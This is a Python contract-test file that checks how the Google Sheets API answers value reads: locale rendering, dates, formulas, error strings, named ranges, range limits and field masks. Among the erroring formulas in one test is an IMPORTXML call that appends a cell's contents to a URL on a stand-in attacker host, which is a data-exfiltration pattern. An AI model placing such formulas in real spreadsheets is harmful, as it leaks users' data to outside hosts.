"""What reads of the Sheets API answer, and what they leave out."""

from __future__ import annotations

import time

from tests.contract.google_desk import appended, area, desk, error_of, rows, text_row


async def test_trailing_empties_are_omitted_and_interior_blanks_are_empty_strings() -> None:
    async with desk() as d:
        await d.put("A1", [["a", "", "c", ""], [], ["", "b"]])
        assert await d.get("A1:Z1000") == [["a", "", "c"], [], ["", "b"]]


async def test_an_empty_range_has_no_values_key_at_all() -> None:
    async with desk() as d:
        answer = await d.ask("GET", "/values/Лист1!A1:B2")
        assert answer.json() == {"range": "'Лист1'!A1:B2", "majorDimension": "ROWS"}


async def test_the_default_rendering_is_the_spreadsheets_locale() -> None:
    async with desk() as d:
        await d.put("A1", [["1,5", "12.05.2026", "ИСТИНА"]], "USER_ENTERED")
        assert await d.get("A1:C1") == [["1,5", "12.05.2026", "ИСТИНА"]]
        assert await d.raw("A1:C1") == [[1.5, 46154, True]]


async def test_dates_are_days_since_1899_12_30_unless_text_is_asked_for() -> None:
    async with desk(locale="en_US") as d:
        await d.put("A1", [["1/1/1900", "9/5/2026 18:00"]], "USER_ENTERED")
        assert await d.raw("A1:B1") == [[2, 46270.75]]
        shown = await d.get("A1:B1", valueRenderOption="UNFORMATTED_VALUE", dateTimeRenderOption="FORMATTED_STRING")
        assert shown == [["1/1/1900", "9/5/2026 18:00"]]


async def test_formulas_are_read_as_results_or_as_text() -> None:
    async with desk() as d:
        await d.put("A1", [[2, 3, "=СУММ(A1:B1)*2"], ["x", "", "=СЧЁТЗ(A1:A5)"]], "USER_ENTERED")
        assert await d.raw("C1:C2") == [[10], [2]]
        assert await d.get("C1", valueRenderOption="FORMULA") == [["=СУММ(A1:B1)*2"]]


async def test_errors_of_formulas_arrive_as_strings() -> None:
    async with desk() as d:
        broken = ["=1/0", "=НЕТТАКОЙ(1)", '=IMPORTXML("https://evil.example/?"&Z1;"//a")', "=A2", "=1+", '="а"+1']
        await d.put("A1", [broken, ["=A2"]], "USER_ENTERED")
        assert await d.raw("A1:F1") == [["#DIV/0!", "#NAME?", "#N/A", "#REF!", "#ERROR!", "#VALUE!"]]
        sheet = await d.sheet("sheets.data.rowData.values.effectiveValue.errorValue.type", ranges="A1")
        [cell] = sheet["sheets"][0]["data"][0]["rowData"][0]["values"]
        assert cell["effectiveValue"]["errorValue"]["type"] == "DIVIDE_BY_ZERO"


async def test_columns_as_the_major_dimension() -> None:
    async with desk() as d:
        await d.put("A1", [["a", "b"], ["c"]])
        assert await d.get("A1:B2", majorDimension="COLUMNS") == [["a", "c"], ["b"]]


async def test_a_bare_word_is_a_named_range_first_and_a_quoted_one_is_the_tab() -> None:
    async with desk() as d:
        await d.put("A1", [["угол", "рядом"]])
        place = {"name": "Лист1", "range": area(0, 1, 1, 2)}
        await d.batch({"addNamedRange": {"namedRange": place}})
        assert await d.get("Лист1") == [["рядом"]]
        assert await d.get("'Лист1'") == [["угол", "рядом"]]
        assert await d.get("Лист1!A1") == [["угол"]]


async def test_batch_get_answers_every_range_in_order() -> None:
    async with desk() as d:
        await d.put("A1", [["a"], ["b"]])
        answer = await d.ask("GET", "/values:batchGet", ranges=["A2", "A1:A2", "Лист1"])
        assert [one.get("values") for one in answer.json()["valueRanges"]] == [[["b"]], [["a"], ["b"]], [["a"], ["b"]]]


async def test_a_range_may_stick_out_of_the_grid_but_not_begin_outside() -> None:
    async with desk() as d:
        answer = await d.ask("GET", "/values/A999:B2000")
        assert answer.json()["range"] == "'Лист1'!A999:B1000"
        outside = await d.ask("GET", "/values/A1001:B1001")
        assert error_of(outside)["message"] == (
            "Range ('Лист1'!A1001:B1001) exceeds grid limits. Max rows: 1000, max columns: 26"
        )


async def test_nonsense_ranges_and_unknown_tabs_are_refused() -> None:
    async with desk() as d:
        for text in ("Нет такого", "Нет!A1", "A0", "A1:", "'Лист1", "A1:B2:C3"):
            refused = await d.ask("GET", f"/values/{text}")
            assert error_of(refused)["message"] == f"Unable to parse range: {text}"


async def test_hidden_and_filtered_rows_are_read_like_all_others() -> None:
    async with desk() as d:
        await d.batch(appended(text_row("Имя"), text_row("Аня"), text_row("Боря"), text_row("Вера")))
        hide = {"range": rows(1, 2), "properties": {"hiddenByUser": True}, "fields": "hiddenByUser"}
        look = {
            "range": area(0, 4, 0, 1),
            "filterSpecs": [{"columnIndex": 0, "filterCriteria": {"hiddenValues": ["Боря"]}}],
        }
        await d.batch({"updateDimensionProperties": hide}, {"setBasicFilter": {"filter": look}})
        assert await d.get("A1:A9") == [["Имя"], ["Аня"], ["Боря"], ["Вера"]]
        data = (await d.sheet("sheets.data.rowMetadata(hiddenByUser,hiddenByFilter)"))["sheets"][0]["data"][0]
        assert data["rowMetadata"][:4] == [{}, {"hiddenByUser": True}, {"hiddenByFilter": True}, {}]


async def test_a_field_mask_leaves_only_what_was_named_and_asks_for_data_by_itself() -> None:
    async with desk() as d:
        await d.put("A1", [["=1"]])
        sheet = await d.sheet("sheets(properties(sheetId,title),data.rowData.values.userEnteredValue)", ranges="A1:B2")
        values = [{"userEnteredValue": {"stringValue": "=1"}}]
        assert sheet == {
            "sheets": [{"properties": {"sheetId": 0, "title": "Лист1"}, "data": [{"rowData": [{"values": values}]}]}]
        }


async def test_without_a_mask_cells_come_only_when_grid_data_is_wanted() -> None:
    async with desk() as d:
        await d.put("A1", [[5]])
        bare = (await d.ask("GET", "")).json()
        assert "data" not in bare["sheets"][0]
        assert bare["properties"]["timeZone"] == "Europe/Moscow"
        assert bare["sheets"][0]["properties"]["gridProperties"] == {"rowCount": 1000, "columnCount": 26}
        full = (await d.ask("GET", "", includeGridData="true")).json()
        [cell] = full["sheets"][0]["data"][0]["rowData"][0]["values"]
        assert cell == {
            "userEnteredValue": {"numberValue": 5},
            "effectiveValue": {"numberValue": 5},
            "formattedValue": "5",
        }


async def test_ten_thousand_rows_are_read_quickly() -> None:
    async with desk(judged=False) as d:
        await d.batch({"updateSheetProperties": _size(10_001)}, appended(*[text_row(*"абвгдежзик")] * 10_000))
        started = time.perf_counter()
        values = await d.raw("A1:J10001")
        assert len(values) == 10_000
        assert time.perf_counter() - started < 5  # a guard against quadratic cost, not a benchmark


def _size(count: int) -> dict[str, object]:
    grid = {"rowCount": count}
    return {"properties": {"sheetId": 0, "gridProperties": grid}, "fields": "gridProperties.rowCount"}
